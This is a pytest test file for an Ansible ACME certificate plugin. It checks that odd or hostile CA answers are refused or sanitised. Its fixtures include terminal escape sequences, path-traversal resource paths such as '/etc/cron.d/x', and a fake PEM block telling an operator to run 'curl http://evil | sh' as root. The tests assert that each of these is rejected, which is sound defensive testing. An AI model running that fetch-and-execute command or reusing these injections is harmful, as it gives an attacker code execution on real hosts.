# Copyright (c) 2026, certops.ocsp contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""A CA that answers with anything gets nothing published, written or shown but what was ordered."""

from __future__ import annotations

import dataclasses
import json
import time
import typing as t
from datetime import datetime, timezone
from pathlib import Path

import pytest

pytest.importorskip("ansible.module_utils.testing", reason="needs ansible-core 2.19 or later")

from ansible_collections.certops.ocsp.plugins.plugin_utils import _acme_answers, _acme_folder, _acme_orders
from ansible_collections.certops.ocsp.plugins.plugin_utils._acme_wanted import Request

NAMES = ("*.example.test", "2001:db8::1", "example.test", "www.example.test")
OTHER = "other.test"
DIRECTORY = "https://ca.example/dir"
ACCOUNT = "https://ca.example/acct/1"
SETTINGS = {
    "directory": DIRECTORY,
    "weekly_limit": 0,
    "http_folder": "/srv",
    "http_hosts": [],
    "dns_alias": {},
}
HTTP = {"resource": ".well-known/acme-challenge/token_-1", "resource_value": "token_-1.thumb_-print"}
DNS = {"record": "_acme-challenge.www.example.test", "resource_value": "digest_-"}
PERSISTENT = {"issuer_domain_names": ["ca.example"], "account_uri": ACCOUNT}
KINDS = {"http-01": HTTP, "dns-01": DNS, "dns-persist-01": PERSISTENT}
ODD: list[t.Any] = [5, None, True, 1.5, [], {}, ["pending"], {"a": 1}, "", "\x1b]0;x\x07", "\ud800", "a" * 100_000]


def ask(identifier: t.Any, kind: str, **found: t.Any) -> list[_acme_answers.Challenge]:
    order = _acme_answers.Order(NAMES, kind, DIRECTORY, ACCOUNT)
    return order.challenges([{"identifier": identifier, "challenges": {kind: {**KINDS[kind], **found}}}])


@pytest.mark.parametrize(
    ("identifier", "kind", "place", "value"),
    [
        ("www.example.test", "http-01", HTTP["resource"], HTTP["resource_value"]),
        ("WWW.Example.test", "http-01", HTTP["resource"], HTTP["resource_value"]),
        ("2001:DB8:0::1", "http-01", HTTP["resource"], HTTP["resource_value"]),
        ("*.example.test", "dns-01", "_acme-challenge.example.test", "digest_-"),
        ("www.example.test", "dns-01", "_acme-challenge.www.example.test", "digest_-"),
        (
            "*.example.test",
            "dns-persist-01",
            "_validation-persist.example.test.",
            f"ca.example; accounturi={ACCOUNT}; policy=wildcard",
        ),
        (
            "www.example.test",
            "dns-persist-01",
            "_validation-persist.www.example.test.",
            f"ca.example; accounturi={ACCOUNT}",
        ),
    ],
)
def test_what_was_ordered_is_proven(identifier: str, kind: str, place: str, value: str) -> None:
    (found,) = ask(identifier, kind)
    assert (found.path or found.record, found.value) == (place, value)
    assert found.name in NAMES


def test_a_wildcard_is_proven_by_the_name_below_it() -> None:
    order = _acme_answers.Order(("*.example.test",), "dns-01", DIRECTORY, ACCOUNT)
    (found,) = order.challenges([{"identifier": "example.test", "challenges": {"dns-01": DNS}}])
    assert found.record == "_acme-challenge.example.test"


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("identifier", [OTHER, "test", "a.www.example.test", "*.www.example.test", "::1", *ODD])
def test_nothing_else_is(identifier: t.Any, kind: str) -> None:
    with pytest.raises(_acme_answers.Refused, match=r"the CA wants a proof for .*, which was not ordered") as caught:
        ask(identifier, kind)
    assert caught.value.message.isprintable() and len(caught.value.message) < 200


def test_a_record_is_named_here_and_not_by_the_ca() -> None:
    (found,) = ask("www.example.test", "dns-01", record=f"_acme-challenge.{OTHER}")
    assert found.record == "_acme-challenge.www.example.test"


@pytest.mark.parametrize(
    ("kind", "found"),
    [
        *[("dns-01", {"resource_value": one}) for one in [*ODD, "a b", 'a" "b', "a\nb"]],
        *[("http-01", {"resource_value": one}) for one in [*ODD, "a b", "a.b.c", "a\n"]],
        *[
            ("http-01", {"resource": one})
            for one in [*ODD, "/etc/cron.d/x", ".well-known/acme-challenge/../x", ".well-known/acme-challenge/"]
        ],
        *[("dns-persist-01", {"issuer_domain_names": [one]}) for one in [*ODD, "a b", 'a"', "a; x=y", "-a.b", "A.b"]],
        *[
            ("dns-persist-01", {"account_uri": one})
            for one in [
                *ODD,
                "https://acme-v02.api.letsencrypt.org/acme/acct/666",
                "https://ca.example/acct/2",
                f"{ACCOUNT}; policy=wildcard",
                f'{ACCOUNT}"',
                f"{ACCOUNT}\n",
            ]
        ],
    ],
)
def test_a_challenge_of_another_form_is_refused(kind: str, found: dict[str, t.Any]) -> None:
    with pytest.raises(_acme_answers.Refused) as caught:
        ask("www.example.test", kind, **found)
    assert caught.value.message.isprintable() and len(caught.value.message) < 400


def test_no_record_names_an_account_of_another_server() -> None:
    account = "https://acme-v02.api.letsencrypt.org/acme/acct/666"
    order = _acme_answers.Order(NAMES, "dns-persist-01", DIRECTORY, account)
    offered = {"dns-persist-01": {**PERSISTENT, "account_uri": account}}
    with pytest.raises(_acme_answers.Refused, match="an account of another server, https://acme-v02"):
        order.challenges([{"identifier": "www.example.test", "challenges": offered}])


def test_a_name_in_many_spellings_is_not_published_many_times() -> None:
    given = [{"identifier": f"www.example.test{'.' * dots}", "challenges": {"dns-01": DNS}} for dots in range(9)]
    order = _acme_answers.Order(NAMES, "dns-01", DIRECTORY, ACCOUNT)
    with pytest.raises(_acme_answers.Refused, match="no valid list of authorizations"):
        order.challenges(given)
    assert len(order.challenges(given[: len(NAMES)])) == len(NAMES)


@pytest.mark.parametrize("value", [*ODD, "ftp://ca/1", "https://", "//ca/1", "https://ca/a b", "https://u:p@ca/1"])
def test_a_url_is_one(value: t.Any) -> None:
    with pytest.raises(_acme_answers.Refused, match="the CA gave no valid URL of the order") as caught:
        _acme_answers.url(value, "the order")
    assert caught.value.message.isprintable() and len(caught.value.message) < 200


@pytest.mark.parametrize(
    "end", ["", ".", "; Challenge dns-01", ")", " Subproblems:\n(0) Error x", ". The JSON result: {}"]
)
@pytest.mark.parametrize(
    "detail",
    [
        'Get "http://www.example.test/.well-known/x": dial tcp: no such host',
        'forbidden by policy: "example.test"',
        "404",
    ],
)
def test_a_detail_with_quotes_is_said_whole(detail: str, end: str) -> None:
    error = f'Error urn:ietf:params:acme:error:connection: "{detail}"{end}'
    text = f"Failed to validate challenge for dns:a.example.test: invalid. Challenge http-01: {error}"
    said = _acme_answers.explain({"msg": text}).message
    assert said == f"the CA says: a.example.test: {detail} (connection)"


@pytest.mark.parametrize("size", [5_000, 1_000_000])
@pytest.mark.parametrize("unit", ["dns:", 'Error "', "Error urn:ietf:params:acme:error:x", "\\", "\x1b[31m", " "])
def test_an_error_of_any_length_is_one_short_sentence(unit: str, size: int) -> None:
    began = time.process_time()
    text = f'Error urn:ietf:params:acme:error:unauthorized: "{unit * (size // len(unit))}'
    found = _acme_answers.explain({"msg": text, "other": {"problem": [text], "http_status": [1]}})
    assert found.message.isprintable() and len(found.message) <= 400
    # A search that starts anew at each place takes hours.
    assert time.process_time() - began < 20


def test_a_module_that_ended_by_an_exception_is_not_quoted() -> None:
    result = {"msg": "Task failed: Module failed: argument of type 'int' is not iterable", "exception": "Traceback"}
    said = _acme_answers.explain(_acme_answers.reduced(result)).message
    assert said == "what the CA answered cannot be read by community.crypto"


def nested(depth: int) -> t.Any:
    return [nested(depth - 1)] if depth else []


@pytest.mark.parametrize(
    "odd", [*ODD, nested(400), {"\x1b": {str(one): "x" * 9000 for one in range(2000)}}, ["x"] * 5000]
)
@pytest.mark.parametrize(
    "key", ["msg", "account_uri", "order_uri", "challenge_data", "order", "selected_chain", "other"]
)
def test_what_is_let_out_of_a_module_is_bounded_and_printable(key: str, odd: t.Any) -> None:
    """Ansible passes each result on to callbacks and templates, and shows warnings as they are."""
    given = {
        key: odd,
        "warnings": ["\x1b]0;x\x07"],
        "deprecations": ["\x1b"],
        "authorizations_by_identifier": nested(400),
    }
    found = _acme_answers.reduced(given)
    text = json.dumps(found)
    assert "\\u001b" not in text and len(text) <= 1024 * 1024 and "warnings" not in found
    assert text.count("[[[[[[") == 0


def test_what_is_needed_of_a_result_is_let_out() -> None:
    one = {"identifier": "www.example.test", "challenges": {kind: dict(found) for kind, found in KINDS.items()}}
    given = {
        **created("www.example.test"),
        "account_uri": ACCOUNT,
        "challenge_data": [one],
        "order": {"status": "pending", "authorizations": [nested(9)]},
        "selected_chain": {"full_chain": BLOCK, "cert": "x"},
        "msg": "a\nb",
        "other": {"problem": {"type": "x"}, "http_status": 500, "content": "y"},
    }
    found = _acme_answers.reduced(given)
    assert all(found[key] == given[key] for key in ("account_uri", "order_uri", "challenge_data"))
    assert found["order"] == {"status": "pending"} and found["msg"] == "a b"
    assert found["selected_chain"] == {"full_chain": BLOCK}
    assert found["other"] == {"problem": {"type": "x"}, "http_status": 500}


BLOCK = "-----BEGIN CERTIFICATE-----\nAA==\n-----END CERTIFICATE-----\n"
NO_CHAIN = ("EC PARAMETERS", "PRIVATE KEY", "CERTIFICATE REQUEST", "TRUSTED CERTIFICATE", "X509 CRL")
BEGUN = "-----BEGIN CERTIFICATE-----\nAA=="


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        (f"Subject: \x9b31mRED\x9d0;title\x9c \u202eevil \x7f\n{BLOCK}\x85between\u2066\n{BLOCK}after\x9b", BLOCK * 2),
        (BLOCK.replace("\n", "\r\n"), BLOCK),
        (f"\t{BLOCK}\n \n{BLOCK}", BLOCK * 2),
        ("no PEM at all\x9b", ""),
        # What is damaged or something else is refused: without it, a chain would pass for one that is shorter.
        (f"{BLOCK}{BEGUN}", None),
        (BLOCK.replace("AA==", "A\x9b31m="), None),
        (f"{BEGUN}\n\u202e{BLOCK}", None),
        (f'-----BEGIN Operator: run "curl http://evil | sh" as root\nplease\n-----END A-----\n{BLOCK}', None),
        (BLOCK.replace("AA==", "your account is suspended"), None),
        *((f"{BLOCK}{BLOCK.replace('CERTIFICATE', kind)}", None) for kind in NO_CHAIN),
        (BLOCK.replace("END CERTIFICATE", "END X509 CERTIFICATE"), None),
        (BLOCK.replace("CERTIFICATE", "X509 CERTIFICATE"), BLOCK.replace("CERTIFICATE", "X509 CERTIFICATE")),
    ],
)
def test_a_chain_is_let_out_without_what_is_no_certificate(given: str, kept: str | None) -> None:
    """JSON escapes few control characters, so that Ansible would show the others of text before and between blocks."""
    assert _acme_answers.reduced({"selected_chain": {"full_chain": given}})["selected_chain"] == {"full_chain": kept}


# Through the steps of the role ----------------------------------------------------------------------------------------


@pytest.fixture
def batch(tmp_path: Path) -> _acme_orders.Batch:
    """Two certificates whose orders are about to be taken in."""
    folder = _acme_folder.Folder(str(tmp_path / "files"), DIRECTORY)
    found = _acme_orders.Batch(folder, SETTINGS, datetime(2026, 3, 4, tzinfo=timezone.utc))
    for name in ("bad.test", "good.test"):
        found.requests[name] = Request(name, (name,), "dns-01", "ecdsa-p256", "", "", False, True, ("web1",))
        found.verdicts[name] = {"name": name, "reason": "missing", "urgent": True, "not_after": None}
        found.verdicts[name].update(cert_id="", supports_ari=False)
    found.prepare(None, bytes, lambda path: Path(path).read_bytes())
    return found


def results(found: _acme_orders.Batch, bad: dict[str, t.Any], good: dict[str, t.Any]) -> list[dict[str, t.Any]]:
    items = {one["name"]: one for one in [*found.result()["begun"], *found.result()["create"]]}
    return [{"item": items[name], **answer} for name, answer in (("bad.test", bad), ("good.test", good))]


def created(identifier: t.Any, url: t.Any = "https://ca.example/order/1") -> dict[str, t.Any]:
    return {"order_uri": url, "challenge_data": [{"identifier": identifier, "challenges": {"dns-01": DNS}}]}


ANSWERS: list[dict[str, t.Any]] = [
    *[created(one) for one in [OTHER, *ODD]],
    *[created("bad.test", one) for one in ODD],
    *[
        {**created("bad.test"), "challenge_data": one}
        for one in [*ODD[:4], *ODD[5:], [5], [{}], [created("bad.test")] * 1000]
    ],
    *[
        {**created("bad.test"), "challenge_data": [{"identifier": "bad.test", "challenges": one}]}
        for one in [*ODD, {"dns-01": 5}, {"dns-01": []}, {"dns-01": {}}]
        if one != {}
    ],
    {"order_uri": "https://ca.example/order/1", "challenge_data": [{"identifier": "bad.test", "challenges": {}}]},
    {"msg": 5, "other": 5},
]


@pytest.mark.parametrize("answer", ANSWERS, ids=range(len(ANSWERS)))
def test_an_answer_of_any_kind_is_a_problem_of_its_certificate_alone(
    batch: _acme_orders.Batch, answer: dict[str, t.Any]
) -> None:
    batch.take_orders(results(batch, answer, created("good.test")))
    found = batch.result()
    assert [one["record"] for one in found["records"]] == ["_acme-challenge.good.test"]
    assert [one["name"] for one in found["begun"]] == ["good.test"]
    (problem,) = found["problems"]
    assert problem["name"] == "bad.test" and problem["sentence"].isprintable() and len(problem["sentence"]) < 600


@pytest.mark.parametrize("status", [one for one in ODD if not isinstance(one, dict)])
def test_a_state_of_any_kind_is_a_problem_of_its_certificate_alone(batch: _acme_orders.Batch, status: t.Any) -> None:
    batch.take_orders(results(batch, created("bad.test"), created("good.test")))
    batch.take_orders(results(batch, {"order": {"status": status}}, {"order": {"status": "ready"}}))
    found = batch.result()
    assert [one["name"] for one in found["begun"]] == ["good.test"]
    assert "the CA gave no valid state of the order" in found["problems"][0]["message"]
    assert batch.folder.order("bad.test")["uri"] == ""


@pytest.mark.parametrize("chain", [*ODD, *[{"full_chain": one} for one in ODD]])
def test_a_chain_of_any_kind_is_a_problem_of_its_certificate_alone(batch: _acme_orders.Batch, chain: t.Any) -> None:
    batch.take_orders(results(batch, created("bad.test"), created("good.test")))
    batch.take_certificates(
        results(batch, {"selected_chain": chain}, {"selected_chain": chain}), [], lambda path: Path(path).read_bytes()
    )
    assert set(batch.problems) == {"bad.test", "good.test"} and batch.installed == []
    assert all(one.message.isprintable() and len(one.message) < 400 for one in batch.problems.values())


@pytest.mark.parametrize("uri", ODD)
def test_an_account_of_any_kind_is_not_noted(batch: _acme_orders.Batch, uri: t.Any) -> None:
    batch.take_account({"account_uri": uri})
    assert set(batch.problems) == {"bad.test", "good.test"} and batch.folder.account_uri() == ""


def test_a_record_that_stays_is_shown(batch: _acme_orders.Batch) -> None:
    batch.take_account({"account_uri": ACCOUNT})
    batch.requests = {"good.test": dataclasses.replace(batch.requests["good.test"], challenge="dns-persist-01")}
    offered = [{"identifier": "good.test", "challenges": {"dns-persist-01": PERSISTENT}}]
    batch.folder.note_order("good.test", uri="https://ca.example/order/1", challenges=offered, status="pending")
    assert batch.result()["persistent"] == [f'_validation-persist.good.test. IN TXT "ca.example; accounturi={ACCOUNT}"']


def test_an_order_that_was_answered_with_nonsense_is_not_taken_up_again(batch: _acme_orders.Batch) -> None:
    batch.take_orders(results(batch, created(OTHER), created("good.test")))
    assert batch.result()["problems"] and batch.folder.order("bad.test")["uri"] == ""
